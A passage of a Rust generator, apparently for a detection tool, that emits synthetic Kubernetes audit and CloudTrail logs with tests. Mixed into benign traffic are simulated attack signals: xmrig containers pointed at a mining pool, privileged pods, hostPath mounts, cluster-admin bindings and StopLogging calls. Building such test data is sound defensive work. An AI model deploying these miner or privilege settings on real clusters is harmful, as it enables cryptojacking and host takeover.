            mounts.push(json!({"name": "host", "mountPath": format!("/host{path}")}));
            bad.push("hostPath volumes (volume \"host\")".to_string());
        }
        let mut containers = Vec::new();
        for i in 0..r.weighted(&[(70, 1), (25, 2), (5, 3)]) {
            let name = if i == 0 {
                app
            } else {
                r.pick(&["istio-proxy", "log-shipper", "metrics-exporter"])
            };
            let image = r.weighted(IMAGES);
            let mut c = json!({"name": name, "image": image, "imagePullPolicy": r.pick(&["IfNotPresent", "Always"])});
            if image.contains("xmrig") {
                c["args"] = json!([
                    "-o",
                    "pool.supportxmr.com:443",
                    "-u",
                    format!("4{}", r.upper(40)),
                    "--tls"
                ]);
            } else if r.odds(350) {
                c["command"] = json!(["/bin/sh", "-c"]);
                c["args"] = json!([r.pick(&[
                    "exec nginx -g 'daemon off;'",
                    "python -m app.server",
                    "sleep 3600"
                ])]);
            }
            let probe = json!({"httpGet": {"path": "/healthz", "port": 8080}, "periodSeconds": 10, "failureThreshold": 3});
            for (key, odds, value) in [
                (
                    "ports",
                    600,
                    json!([{"name": "http", "containerPort": r.pick(&[80, 8080, 6379, 9090]), "protocol": "TCP"}]),
                ),
                (
                    "env",
                    600,
                    json!([{"name": "LOG_LEVEL", "value": "info"},
                    {"name": "DB_PASSWORD", "valueFrom": {"secretKeyRef": {"name": format!("{app}-credentials"), "key": "password"}}}]),
                ),
                (
                    "resources",
                    700,
                    json!({"requests": {"cpu": "100m", "memory": "128Mi"}, "limits": {"cpu": "500m", "memory": "512Mi"}}),
                ),
                ("livenessProbe", 500, probe.clone()),
                ("readinessProbe", 500, probe),
                (
                    "volumeMounts",
                    if mounts.is_empty() { 0 } else { 1000 },
                    json!(mounts),
                ),
            ] {
                if r.odds(odds) {
                    c[key] = value;
                }
            }
            if r.odds(40 + host / 3) {
                c["securityContext"] = json!({"privileged": true});
                bad.push(format!("privileged (container \"{name}\" must not set securityContext.privileged=true)"));
            } else if r.odds(30) {
                let cap = r.pick(&["SYS_ADMIN", "NET_ADMIN", "SYS_PTRACE"]);
                c["securityContext"] = json!({"capabilities": {"add": [cap]}, "allowPrivilegeEscalation": true, "runAsUser": 0});
                bad.push(format!("non-default capabilities (container \"{name}\" must not include \"{cap}\" in securityContext.capabilities.add)"));
            } else if r.odds(400) {
                c["securityContext"] = json!({"allowPrivilegeEscalation": false, "runAsNonRoot": true, "runAsUser": 1000,
                    "readOnlyRootFilesystem": true, "capabilities": {"drop": ["ALL"]}});
            }
            containers.push(c);
        }
        let mut spec = json!({"containers": containers, "restartPolicy": "Always", "dnsPolicy": "ClusterFirst", "terminationGracePeriodSeconds": 30});
        if !volumes.is_empty() {
            spec["volumes"] = json!(volumes);
        }
        for (key, odds) in [
            ("hostNetwork", 30 + host / 2),
            ("hostPID", 20),
            ("hostIPC", 10),
        ] {
            if r.odds(odds) {
                spec[key] = json!(true);
                bad.push(format!("host namespaces ({key}=true)"));
            }
        }
        for (key, odds, value) in [
            ("serviceAccountName", 700, json!(format!("{app}-sa"))),
            (
                "nodeSelector",
                300,
                json!({"kubernetes.io/os": "linux", "eks.amazonaws.com/nodegroup": "ng-general"}),
            ),
            (
                "tolerations",
                250,
                json!([{"key": "dedicated", "operator": "Equal", "value": app, "effect": "NoSchedule"}]),
            ),
            (
                "securityContext",
                300,
                json!({"runAsNonRoot": true, "runAsUser": 1000, "fsGroup": 2000, "seccompProfile": {"type": "RuntimeDefault"}}),
            ),
        ] {
            if r.odds(odds) {
                spec[key] = value;
            }
        }
        (spec, bad)
    }

    fn meta(&mut self, name: &str, ns: Option<&str>, app: &str) -> Value {
        let by = self.r.pick(&["kubectl", "Helm", "argocd"]);
        let labels = json!({"app.kubernetes.io/name": app, "app.kubernetes.io/part-of": "shop", "app.kubernetes.io/managed-by": by});
        compact(json!({"name": name, "namespace": ns, "labels": labels}))
    }

    /// A create by a person; `kubectl apply` keeps the object in an annotation.
    fn human_create(&mut self, t: &Target, mut obj: Value, issues: &[String]) -> Value {
        let who = self.who(HUMANS);
        let apply = self.r.odds(500);
        if apply {
            let applied = format!("{obj}\n");
            obj["metadata"]["annotations"]["kubectl.kubernetes.io/last-applied-configuration"] =
                json!(applied);
        }
        let manager = if apply {
            "kubectl-client-side-apply"
        } else {
            "kubectl-create"
        };
        let level = if self.r.odds(450) {
            "RequestResponse"
        } else {
            "Request"
        };
        let code = self.code(201, "create");
        let mut ev = self.emit(
            &who,
            "create",
            Some(t),
            t.uri(&format!("fieldManager={manager}&fieldValidation=Strict")),
            level,
            code,
        );
        pod_security(&mut ev, issues, t.res);
        self.bodies(ev, obj)
    }

    fn create_pod(&mut self) -> Value {
        let app = self.r.pick(APPS);
        let (spec, issues) = self.pod_spec(app, 0);
        let ns = self.r.pick(NAMESPACES);
        if self.r.odds(350) {
            let name = if self.r.odds(300) {
                format!("debug-{}", self.r.hex(5))
            } else {
                app.to_string()
            };
            let t = Target {
                res: "pods",
                group: "",
                ns: Some(ns.into()),
                name: Some(name.clone()),
                sub: None,
            };
            let obj = json!({"apiVersion": "v1", "kind": "Pod", "metadata": {"name": name, "namespace": ns, "labels": {"run": name}}, "spec": spec});
            return self.human_create(&t, obj, &issues);
        }
        let (c, kind, api) = self.r.pick(&[
            ("replicaset-controller", "ReplicaSet", "apps/v1"),
            ("replicaset-controller", "ReplicaSet", "apps/v1"),
            ("daemon-set-controller", "DaemonSet", "apps/v1"),
            ("job-controller", "Job", "batch/v1"),
        ]);
        let who = self.controller(c);
        let hash = self.r.hex(10);
        let owner = if kind == "ReplicaSet" {
            format!("{app}-{hash}")
        } else {
            app.to_string()
        };
        let refs = json!([{"apiVersion": api, "kind": kind, "name": owner, "uid": Rng::of(&owner).uuid(), "controller": true, "blockOwnerDeletion": true}]);
        let obj = json!({"kind": "Pod", "apiVersion": "v1", "spec": spec, "metadata": {"generateName": format!("{owner}-"),
            "namespace": ns, "labels": {"app": app, "pod-template-hash": hash}, "ownerReferences": refs}});
        let t = Target {
            res: "pods",
            group: "",
            ns: Some(ns.into()),
            name: None,
            sub: None,
        };
        let level = if self.r.odds(450) {
            "RequestResponse"
        } else {
            "Request"
        };
        let code = self.code(201, "create");
        let mut ev = self.emit(&who, "create", Some(&t), t.uri(""), level, code);
        pod_security(&mut ev, &issues, "pods");
        self.bodies(ev, obj)
    }

    fn create_workload(&mut self) -> Value {
        let (app, ns) = (self.r.pick(APPS), self.r.pick(NAMESPACES));
        let (res, group, kind) = self.r.weighted(&[
            (50, ("deployments", "apps", "Deployment")),
            (25, ("daemonsets", "apps", "DaemonSet")),
            (25, ("cronjobs", "batch", "CronJob")),
        ]);
        let (mut spec, issues) = self.pod_spec(app, if res == "daemonsets" { 250 } else { 0 });
        let name = match res {
            "cronjobs" => format!("{app}-{}", self.r.pick(&["backup", "report", "cleanup"])),
            "daemonsets" => format!("{app}-agent"),
            _ => app.to_string(),
        };
        let selector = json!({"matchLabels": {"app": app}});
        let body = match res {
            "cronjobs" => {
                spec["restartPolicy"] = json!("OnFailure");
                let job = json!({"backoffLimit": 2, "template": {"metadata": {"labels": {"app": app}}, "spec": spec}});
                json!({"schedule": self.r.pick(&["*/15 * * * *", "0 2 * * *", "*/1 * * * *"]), "concurrencyPolicy": "Forbid",
                    "successfulJobsHistoryLimit": 3, "jobTemplate": {"spec": job}})
            }
            "daemonsets" => {
                json!({"selector": selector, "template": {"metadata": {"labels": {"app": app}}, "spec": spec},
                "updateStrategy": {"type": "RollingUpdate"}})
            }
            _ => {
                json!({"replicas": self.r.range(1, 5), "selector": selector, "template": {"metadata": {"labels": {"app": app}}, "spec": spec},
                "strategy": {"type": "RollingUpdate", "rollingUpdate": {"maxSurge": "25%", "maxUnavailable": "25%"}}, "revisionHistoryLimit": 10})
            }
        };
        let obj = json!({"apiVersion": format!("{group}/v1"), "kind": kind, "metadata": self.meta(&name, Some(ns), app), "spec": body});
        let t = Target {
            res,
            group,
            ns: Some(ns.into()),
            name: Some(name),
            sub: None,
        };
        self.human_create(&t, obj, &issues)
    }

    fn create_rbac(&mut self) -> Value {
        let (res, kind) = self.r.weighted(&[
            (45, ("clusterrolebindings", "ClusterRoleBinding")),
            (40, ("rolebindings", "RoleBinding")),
            (15, ("clusterroles", "ClusterRole")),
        ]);
        let app = self.r.pick(APPS);
        let ns = (res == "rolebindings").then(|| self.r.pick(NAMESPACES));
        let role = if self.r.odds(if res == "clusterrolebindings" {
            250
        } else {
            100
        }) {
            "cluster-admin"
        } else {
            self.r.pick(&["view", "edit", "admin"])
        };
        let name = if res == "clusterroles" {
            format!("{app}-reader")
        } else {
            format!("{app}-{role}")
        };
        let mut obj = json!({"apiVersion": format!("{RBAC}/v1"), "kind": kind, "metadata": self.meta(&name, ns, app)});
        if res == "clusterroles" {
            let verbs = if self.r.odds(200) {
                json!(["*"])
            } else {
                json!(["get", "list", "watch"])
            };
            obj["rules"] = json!([{"apiGroups": [""], "resources": ["pods", "pods/log", "configmaps"], "verbs": verbs},
                {"apiGroups": ["apps"], "resources": ["deployments"], "verbs": ["get", "list"]}]);
        } else {
            obj["subjects"] = json!([match self.r.range(0, 2) {
                0 => json!({"kind": "User", "name": "alice@example.com", "apiGroup": RBAC}),
                1 => json!({"kind": "Group", "name": "developers", "apiGroup": RBAC}),
                _ =>
                    json!({"kind": "ServiceAccount", "name": format!("{app}-sa"), "namespace": ns.unwrap_or("default")}),
            }]);
            obj["roleRef"] = json!({"apiGroup": RBAC, "kind": "ClusterRole", "name": role});
        }
        let t = Target {
            res,
            group: RBAC,
            ns: ns.map(String::from),
            name: Some(name),
            sub: None,
        };
        self.human_create(&t, obj, &[])
    }

    fn create_other(&mut self) -> Value {
        let res = self
            .r
            .weighted(&[(40, "configmaps"), (35, "services"), (25, "secrets")]);
        let t = self.target(res, true, false);
        let app = self.r.pick(APPS);
        let ns = t.ns.clone().unwrap_or_default();
        let meta = self.meta(t.name.as_deref().unwrap_or(app), t.ns.as_deref(), app);
        let obj = match res {
            "configmaps" => json!({"apiVersion": "v1", "kind": "ConfigMap", "metadata": meta,
                "data": {"LOG_LEVEL": "info", "app.properties": format!("server.port=8080\ncache.host=redis.{ns}.svc.cluster.local\n")}}),
            "services" => {
                json!({"apiVersion": "v1", "kind": "Service", "metadata": meta, "spec": {"type": self.r.pick(&["ClusterIP", "LoadBalancer", "NodePort"]),
                "selector": {"app": app}, "ports": [{"name": "http", "port": 80, "targetPort": 8080, "protocol": "TCP"}]}})
            }
            _ => {
                // Secrets are audited at Metadata level: no body.
                let who = self.who(HUMANS);
                let code = self.code(201, "create");
                return self.emit(
                    &who,
                    "create",
                    Some(&t),
                    t.uri("fieldManager=kubectl-create&fieldValidation=Strict"),
                    "Metadata",
                    code,
                );
            }
        };
        self.human_create(&t, obj, &[])
    }

    fn patch(&mut self) -> Value {
        let who = self.who(HUMANS);
        let mut t = self.target("deployments", true, false);
        let (query, obj) = if self.r.odds(600) {
            let restarted = json!({"kubectl.kubernetes.io/restartedAt": stamp(self.now, false)});
            (
                "fieldManager=kubectl-rollout",
                json!({"spec": {"template": {"metadata": {"annotations": restarted}}}}),
            )
        } else {
            t.sub = Some("scale");
            (
                "fieldManager=kubectl-scale",
                json!({"spec": {"replicas": self.r.range(0, 10)}}),
            )
        };
        let code = self.code(200, "patch");
        let ev = self.emit(&who, "patch", Some(&t), t.uri(query), "Request", code);
        self.bodies(ev, obj)
    }

    fn delete(&mut self) -> Value {
        let who = self.who(&[(45, As::Controller), (35, As::Iam), (20, As::Oidc)]);
        let res = self.r.weighted(&[
            (45, "pods"),
            (15, "configmaps"),
            (10, "secrets"),
            (10, "deployments"),
            (10, "events"),
            (10, "rolebindings"),
        ]);
        let t = self.target(res, true, false);
        let code = self.code(200, "delete");
        self.emit(&who, "delete", Some(&t), t.uri(""), "Metadata", code)
    }
}

/// Pod Security admission annotations on a successful pod or workload create.
fn pod_security(ev: &mut Value, issues: &[String], res: &str) {
    if ev["responseStatus"]["code"] != 201
        || !matches!(res, "pods" | "deployments" | "daemonsets" | "cronjobs")
    {
        return;
    }
    if res == "pods" {
        let policy = if issues.is_empty() {
            "restricted:latest"
        } else {
            "privileged:latest"
        };
        ev["annotations"]["pod-security.kubernetes.io/enforce-policy"] = json!(policy);
    }
    if !issues.is_empty() {
        let violations = format!(
            "would violate PodSecurity \"baseline:latest\": {}",
            issues.join(", ")
        );
        ev["annotations"]["pod-security.kubernetes.io/audit-violations"] = json!(violations);
    }
}

// ---- CloudTrail ---------------------------------------------------------------

const CT_MIX: &[(u32, &str)] = &[
    (90, "sts:AssumeRole"),
    (60, "sts:AssumeRoleWithWebIdentity"),
    (50, "sts:GetCallerIdentity"),
    (150, "s3:GetObject"),
    (60, "s3:PutObject"),
    (15, "s3:ListBuckets"),
    (90, "ec2:DescribeInstances"),
    (10, "ec2:RunInstances"),
    (6, "iam:CreateUser"),
    (5, "iam:AttachUserPolicy"),
    (6, "iam:CreateAccessKey"),
    (3, "eks:CreateCluster"),
    (6, "eks:UpdateClusterConfig"),
    (60, "eks:DescribeCluster"),
    (5, "eks:CreateAccessEntry"),
    (5, "eks:AssociateAccessPolicy"),
    (30, "eks:ListClusters"),
    (30, "signin:ConsoleLogin"),
    (120, "kms:Decrypt"),
    (1, "cloudtrail:StopLogging"),
];
/// (role, session, kind): h a person through SSO, c CI, e an EC2 instance, w a pod (IRSA).
const CT_ROLES: &[(&str, &str, char)] = &[
    (
        "AWSReservedSSO_AdministratorAccess_6f2c3b1a9e8d7c45",
        "alice@example.com",
        'h',
    ),
    ("github-actions-deployer", "GitHubActions", 'c'),
    ("eks-node-group-role", "i-0a1b2c3d4e5f60718", 'e'),
    ("s3-reader-irsa", "botocore-session-1717405123", 'w'),
];
const CT_AGENTS: &[&str] = &[
    "aws-cli/2.15.30 Python/3.11.8 Linux/6.5.0-1016-aws exe/x86_64.ubuntu.22 prompt/off",
    "aws-sdk-go-v2/1.26.1 os/linux lang/go#1.22.1 md/GOOS#linux md/GOARCH#amd64",
    "Boto3/1.34.69 md/Botocore#1.34.69 ua/2.0 os/linux#6.1.79 md/arch#x86_64 lang/python#3.12.2 Botocore/1.34.69",
    "Terraform/1.7.5 (+https://www.terraform.io) terraform-provider-aws/5.42.0",
];
const OIDC: &str = "oidc.eks.us-east-1.amazonaws.com/id/5C1D8E3F9A2B4C6D8E0F1A2B3C4D5E6F";
const BROWSER: &str = "Mozilla/5.0 (Macintosh; Intel Mac OS X 10_15_7) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0.0.0 Safari/537.36";

struct Trail {
    r: Rng,
    now: i64,
}

/// Who made a CloudTrail call, and from where.
struct Actor {
    id: Value,
    arn: String,
    ip: String,
    agent: String,
    service: bool,
}

impl Trail {
    fn actor(&mut self, name: &str) -> Actor {
        let r = &mut self.r;
        let kind = match name {
            "AssumeRoleWithWebIdentity" => "WebIdentityUser",
            "ConsoleLogin" => r.weighted(&[(85, "IAMUser"), (15, "Root")]),
            "AssumeRole" => r.weighted(&[(45, "AWSService"), (35, "AssumedRole"), (20, "IAMUser")]),
            "Decrypt" => r.weighted(&[(35, "AWSService"), (65, "AssumedRole")]),
            _ => r.weighted(&[(70, "AssumedRole"), (28, "IAMUser"), (2, "Root")]),
        };
        let console = name == "ConsoleLogin";
        let ip = if r.odds(150) {
            r.private_ip()
        } else {
            r.public_ip()
        };
        let agent = if console {
            BROWSER.to_string()
        } else {
            r.pick(CT_AGENTS).to_string()
        };
        let key = |prefix: &str, of: &str| {
            if console {
                String::new()
            } else {
                format!("{prefix}{}", Rng::of(of).upper(16))
            }
        };
        let person = |id: Value, arn: String| Actor {
            id,
            arn,
            ip: ip.clone(),
            agent: agent.clone(),
            service: false,
        };
        match kind {
            "AWSService" => {
                let by = if name == "Decrypt" {
                    "secretsmanager.amazonaws.com"
                } else {
                    r.pick(&["eks.amazonaws.com", "ec2.amazonaws.com"])
                };
                let from = if name == "Decrypt" {
                    "AWS Internal"
                } else {
                    by
                };
                Actor {
                    id: json!({"type": "AWSService", "invokedBy": by}),
                    arn: by.into(),
                    ip: from.into(),
                    agent: by.into(),
                    service: true,
                }
            }
            "WebIdentityUser" => {
                let (ns, sa) = r.pick(&[
                    ("kube-system", "ebs-csi-controller-sa"),
                    ("payments", "payments-api"),
                    ("kube-system", "aws-load-balancer-controller"),
                ]);
                let (provider, user) = (
                    format!("arn:aws:iam::{ACCT}:oidc-provider/{OIDC}"),
                    format!("system:serviceaccount:{ns}:{sa}"),
                );
                let pid = format!("{provider}:sts.amazonaws.com:{user}");
                person(
                    json!({"type": "WebIdentityUser", "principalId": pid, "userName": user, "identityProvider": provider}),
                    user,
                )
            }
            "Root" => {
                let arn = format!("arn:aws:iam::{ACCT}:root");
                person(
                    json!({"type": "Root", "principalId": ACCT, "arn": arn, "accountId": ACCT, "accessKeyId": key("AKIA", "root")}),
                    arn,
                )
            }
            "IAMUser" => {
                let user = r.pick(&["deploy-bot", "alice", "legacy-backup", "terraform-ci"]);
                let arn = format!("arn:aws:iam::{ACCT}:user/{user}");
                let pid = format!("AIDA{}", Rng::of(&arn).upper(17));
                person(
                    json!({"type": "IAMUser", "principalId": pid, "arn": arn, "accountId": ACCT, "accessKeyId": key("AKIA", user), "userName": user}),
                    arn,
                )
            }
            _ => {
                let (role, session, k) = r.pick(CT_ROLES);
                let (role_arn, role_id) = (
                    format!("arn:aws:iam::{ACCT}:role/{role}"),
                    format!("AROA{}", Rng::of(role).upper(17)),
                );
                let arn = format!("arn:aws:sts::{ACCT}:assumed-role/{role}/{session}");
                let created = stamp((self.now - r.range(60, 3600) as i64) * 1_000_000, false);
                let web = if k == 'w' {
                    json!({"federatedProvider": format!("arn:aws:iam::{ACCT}:oidc-provider/{OIDC}"), "attributes": {}})
                } else {
                    json!({})
                };
                let ctx = compact(
                    json!({"sessionIssuer": {"type": "Role", "principalId": role_id, "arn": role_arn, "accountId": ACCT, "userName": role},
                    "webIdFederationData": web, "attributes": {"creationDate": created, "mfaAuthenticated": "false"},
                    "ec2RoleDelivery": (k == 'e').then_some("2.0")}),
                );
                let id = json!({"type": "AssumedRole", "principalId": format!("{role_id}:{session}"), "arn": arn, "accountId": ACCT,
                    "accessKeyId": key("ASIA", session), "sessionContext": ctx});
                person(id, arn)
            }
        }
    }

    /// requestParameters, responseElements and resources plausible for the call.
    fn params(&mut self, name: &str, region: &str, caller: &str) -> (Value, Value, Option<Value>) {
        let (r, now) = (&mut self.r, self.now);
        let cluster = format!("arn:aws:eks:{region}:{ACCT}:cluster/prod-eks");
        let role_name = r.pick(&[
            "s3-reader-irsa",
            "ebs-csi-driver-irsa",
            "OrganizationAccountAccessRole",
        ]);
        let role = format!("arn:aws:iam::{ACCT}:role/{role_name}");
        let session = format!("botocore-session-{}", now - 30);
        let creds = json!({"accessKeyId": format!("ASIA{}", r.upper(16)), "sessionToken": format!("IQoJb3JpZ2luX2VjE{}", r.upper(40)),
            "expiration": stamp((now + 3600) * 1_000_000, false)});
        let assumed = json!({"assumedRoleId": format!("AROA{}:{session}", r.upper(17)), "arn": format!("arn:aws:sts::{ACCT}:assumed-role/{role_name}/{session}")});
        let (bucket, key) = (
            r.pick(&[
                "acme-prod-artifacts",
                "acme-logs-123456789012",
                "acme-customer-exports",
            ]),
            format!("exports/2024/06/{}.json", r.hex(12)),
        );
        let principal = format!(
            "arn:aws:iam::{ACCT}:role/{}",
            r.pick(&["DevOps", "github-actions-deployer", "ExternalContractor"])
        );
        let user = r.pick(&["svc-backup", "temp-admin", "ci-runner"]);
        let one = |arn: &str, ty: &str| Some(json!([{"ARN": arn, "accountId": ACCT, "type": ty}]));
        let null = Value::Null;
        match name {
            "AssumeRole" => (
                json!({"roleArn": role, "roleSessionName": session, "durationSeconds": 3600}),
                json!({"credentials": creds, "assumedRoleUser": assumed}),
                one(&role, "AWS::IAM::Role"),
            ),
            "AssumeRoleWithWebIdentity" => (
                json!({"roleArn": role, "roleSessionName": session, "durationSeconds": 86400}),
                json!({"credentials": creds, "subjectFromWebIdentityToken": caller, "audience": "sts.amazonaws.com",
                    "provider": format!("arn:aws:iam::{ACCT}:oidc-provider/{OIDC}"), "assumedRoleUser": assumed}),
                one(&role, "AWS::IAM::Role"),
            ),
            "GetObject" | "PutObject" => (
                json!({"bucketName": bucket, "Host": format!("{bucket}.s3.{region}.amazonaws.com"), "key": key}),
                null,
                Some(
                    json!([{"type": "AWS::S3::Object", "ARN": format!("arn:aws:s3:::{bucket}/{key}")},
                    {"accountId": ACCT, "type": "AWS::S3::Bucket", "ARN": format!("arn:aws:s3:::{bucket}")}]),
                ),
            ),
            "ListBuckets" => (json!({"Host": "s3.amazonaws.com"}), null, None),
            "DescribeInstances" => (
                json!({"instancesSet": {}, "filterSet": {"items": [{"name": "instance-state-name", "valueSet": {"items": [{"value": "running"}]}}]}}),
                null,
                None,
            ),
            "RunInstances" => {
                let (ami, ty) = (
                    format!("ami-0{}", r.hex(16)),
                    r.weighted(&[(90, "t3.medium"), (10, "p3.16xlarge")]),
                );
                let item = json!({"instanceId": format!("i-0{}", r.hex(16)), "imageId": ami, "instanceState": {"code": 0, "name": "pending"}, "instanceType": ty});
                (
                    json!({"instancesSet": {"items": [{"imageId": ami, "minCount": 1, "maxCount": 1}]}, "instanceType": ty, "monitoring": {"enabled": false}}),
                    json!({"reservationId": format!("r-0{}", r.hex(16)), "ownerId": ACCT, "instancesSet": {"items": [item]}}),
                    None,
                )
            }
            "CreateUser" => (
                json!({"userName": user}),
                json!({"user": {"path": "/", "userName": user, "userId": format!("AIDA{}", r.upper(17)),
                "arn": format!("arn:aws:iam::{ACCT}:user/{user}"), "createDate": stamp(now * 1_000_000, false)}}),
                None,
            ),
            "CreateAccessKey" => (
                json!({"userName": user}),
                json!({"accessKey": {"userName": user, "accessKeyId": format!("AKIA{}", r.upper(16)),
                "status": "Active", "createDate": stamp(now * 1_000_000, false)}}),
                None,
            ),
            "AttachUserPolicy" => (
                json!({"userName": user, "policyArn": format!("arn:aws:iam::aws:policy/{}", r.pick(&["AdministratorAccess", "ReadOnlyAccess"]))}),
                null,
                None,
            ),
            "CreateCluster" => (
                json!({"name": "prod-eks", "version": "1.29", "roleArn": format!("arn:aws:iam::{ACCT}:role/eks-cluster-role"),
                    "resourcesVpcConfig": {"subnetIds": ["subnet-0a670c2df1e2d3c4b", "subnet-04f8c50041a2b3c4d"], "endpointPublicAccess": true}}),
                json!({"cluster": {"name": "prod-eks", "arn": cluster, "createdAt": now as f64 + 0.208, "version": "1.29", "status": "CREATING"}}),
                one(&cluster, "AWS::EKS::Cluster"),
            ),
            "UpdateClusterConfig" => {
                let public = r.odds(500);
                let req = if public {
                    json!({"name": "prod-eks", "resourcesVpcConfig": {"endpointPublicAccess": true, "publicAccessCidrs": ["0.0.0.0/0"]}})
                } else {
                    json!({"name": "prod-eks", "logging": {"clusterLogging": [{"types": ["api", "audit", "authenticator"], "enabled": r.odds(500)}]}})
                };
                let ty = if public {
                    "EndpointAccessUpdate"
                } else {
                    "LoggingUpdate"
                };
                (
                    req,
                    json!({"update": {"id": r.uuid(), "status": "InProgress", "type": ty, "params": [], "createdAt": now as f64, "errors": []}}),
                    one(&cluster, "AWS::EKS::Cluster"),
                )
            }
            "DescribeCluster" => (
                json!({"name": "prod-eks"}),
                null,
                one(&cluster, "AWS::EKS::Cluster"),
            ),
            "CreateAccessEntry" => (
                json!({"clusterName": "prod-eks", "principalArn": principal, "type": "STANDARD"}),
                json!({"accessEntry": {"clusterName": "prod-eks", "principalArn": principal, "kubernetesGroups": [], "username": principal, "type": "STANDARD",
                    "accessEntryArn": format!("arn:aws:eks:{region}:{ACCT}:access-entry/prod-eks/role/{ACCT}/{}", r.uuid())}}),
                one(&cluster, "AWS::EKS::Cluster"),
            ),
            "AssociateAccessPolicy" => {
                let policy = format!(
                    "arn:aws:eks::aws:cluster-access-policy/{}",
                    r.pick(&["AmazonEKSClusterAdminPolicy", "AmazonEKSViewPolicy"])
                );
                let scope = if r.odds(700) {
                    json!({"type": "cluster", "namespaces": []})
                } else {
                    json!({"type": "namespace", "namespaces": ["production"]})
                };
                (
                    json!({"clusterName": "prod-eks", "principalArn": principal, "policyArn": policy, "accessScope": scope}),
                    json!({"clusterName": "prod-eks", "principalArn": principal, "associatedAccessPolicy": {"policyArn": policy, "accessScope": scope, "associatedAt": now as f64}}),
                    one(&cluster, "AWS::EKS::Cluster"),
                )
            }
            "Decrypt" => (
                json!({"encryptionAlgorithm": "SYMMETRIC_DEFAULT", "encryptionContext": {"SecretARN": format!("arn:aws:secretsmanager:{region}:{ACCT}:secret:prod/db-AbCdEf")}}),
                null,
                one(
                    &format!("arn:aws:kms:{region}:{ACCT}:key/{}", Rng::of(region).uuid()),
                    "AWS::KMS::Key",
                ),
            ),
            "StopLogging" => (
                json!({"name": format!("arn:aws:cloudtrail:{region}:{ACCT}:trail/management-events")}),
                null,
                None,
            ),
            _ => (null.clone(), null, None),
        }
    }

    fn record(&mut self) -> Value {
        self.now += self.r.range(0, 3) as i64;
        let (svc, name) = self
            .r
            .weighted(CT_MIX)
            .split_once(':')
            .unwrap_or(("sts", "GetCallerIdentity"));
        let global = matches!(svc, "iam" | "signin");
        let region = if global {
            "us-east-1"
        } else {
            self.r
                .weighted(&[(70, "us-east-1"), (20, "us-west-2"), (10, "eu-west-1")])
        };
        let a = self.actor(name);
        let (req, mut resp, resources) = self.params(name, region, &a.arn);
        let read_only = ["Get", "Describe", "List", "Assume", "Decrypt"]
            .iter()
            .any(|p| name.starts_with(p));
        let (data, console) = (svc == "s3" && name != "ListBuckets", name == "ConsoleLogin");
        let mut rec = json!({
            "eventVersion": if data { "1.10" } else { "1.09" }, "userIdentity": a.id, "eventTime": stamp(self.now * 1_000_000, false),
            "eventSource": format!("{svc}.amazonaws.com"), "eventName": name, "awsRegion": region, "sourceIPAddress": a.ip,
            "userAgent": a.agent, "requestParameters": req, "responseElements": null,
            "requestID": if svc == "s3" { self.r.upper(16) } else { self.r.uuid() }, "eventID": self.r.uuid(), "readOnly": read_only,
            "eventType": if console { "AwsConsoleSignIn" } else { "AwsApiCall" }, "managementEvent": !data,
            "recipientAccountId": ACCT, "eventCategory": if data { "Data" } else { "Management" },
        });
        if let Some(res) = resources {
            rec["resources"] = res;
        }
        if !a.service {
            let host = match (console, global) {
                (true, _) => "signin.aws.amazon.com".to_string(),
                (_, true) => format!("{svc}.amazonaws.com"),
                _ => format!("{svc}.{region}.amazonaws.com"),
            };
            let (tls, cipher) = self.r.pick(&[
                ("TLSv1.3", "TLS_AES_128_GCM_SHA256"),
                ("TLSv1.2", "ECDHE-RSA-AES128-GCM-SHA256"),
            ]);
            rec["tlsDetails"] =
                json!({"tlsVersion": tls, "cipherSuite": cipher, "clientProvidedHostHeader": host});
        }
        if console {
            let ok = self.r.odds(850);
            resp = json!({"ConsoleLogin": if ok { "Success" } else { "Failure" }});
            let mfa = if self.r.odds(600) { "Yes" } else { "No" };
            rec["additionalEventData"] = json!({"LoginTo": "https://console.aws.amazon.com/console/home", "MobileVersion": "No", "MFAUsed": mfa});
            if !ok {
                rec["errorMessage"] = json!("Failed authentication");
            }
        } else if data {
            rec["additionalEventData"] = json!({"SignatureVersion": "SigV4", "CipherSuite": "TLS_AES_128_GCM_SHA256", "bytesTransferredIn": 0,
                "bytesTransferredOut": self.r.range(200, 5_000_000), "AuthenticationMethod": "AuthHeader"});
        } else if !a.service && self.r.odds(80) {
            rec["errorCode"] = json!(if svc == "ec2" {
                "Client.UnauthorizedOperation"
            } else {
                "AccessDenied"
            });
            let action = format!("{svc}:{name}");
            rec["errorMessage"] = json!(format!("User: {} is not authorized to perform: {action} because no identity-based policy allows the {action} action", a.arn));
            resp = Value::Null;
        }
        rec["responseElements"] = resp;
        rec
    }
}

#[cfg(test)]
mod tests {
    use super::*;
    use ward_compiler::schema::{bundled, validate_event};

    fn parse(docs: &[String]) -> Vec<Value> {
        docs.iter()
            .map(|d| serde_json::from_str(d).expect("valid JSON"))
            .collect()
    }

    fn mean_len(docs: &[String]) -> usize {
        docs.iter().map(String::len).sum::<usize>() / docs.len()
    }

    #[test]
    fn deterministic_per_seed() {
        assert_eq!(k8s_events(500, 7), k8s_events(500, 7));
        assert_ne!(k8s_events(500, 7), k8s_events(500, 8));
        assert_eq!(cloudtrail_records(500, 7), cloudtrail_records(500, 7));
        assert_ne!(cloudtrail_records(500, 7), cloudtrail_records(500, 8));
    }

    /// Every document: one line, valid for its schema, recognised, in time order.
    fn check(source: &str, docs: &[String], time_field: &str) {
        let schema = bundled().get(source).expect("bundled schema");
        let mut last = i128::MIN;
        for (doc, v) in docs.iter().zip(parse(docs)) {
            assert!(!doc.contains('\n'), "{doc}");
            let bad = validate_event(schema, &v);
            assert!(bad.is_empty(), "{bad:?} in {doc}");
            assert_eq!(crate::decode::source_of(&v), Some(source), "{doc}");
            let t = crate::time::parse(v[time_field].as_str().expect("time")).expect("RFC 3339");
            assert!(t >= last, "time goes back at {doc}");
            last = t;
        }
    }

    #[test]
    fn events_validate_against_bundled_schemas() {
        check("k8s.audit", &k8s_events(10_000, 1), "stageTimestamp");
        check(
            "aws.cloudtrail",
            &cloudtrail_records(10_000, 1),
            "eventTime",
        );
    }

    #[test]
    fn k8s_average_size() {
        let (k8s, trail) = (
            mean_len(&k8s_events(10_000, 42)),
            mean_len(&cloudtrail_records(10_000, 42)),
        );
        eprintln!("mean size: k8s {k8s} B, cloudtrail {trail} B");
        assert!(
            (1_600..=2_000).contains(&k8s),
            "mean k8s event is {k8s} bytes"
        );
    }

    /// Pod specs in a request body: a Pod, a workload's template, a CronJob's.
    fn any_container(v: &Value, f: impl Fn(&Value) -> bool) -> bool {
        [
            "/requestObject/spec",
            "/requestObject/spec/template/spec",
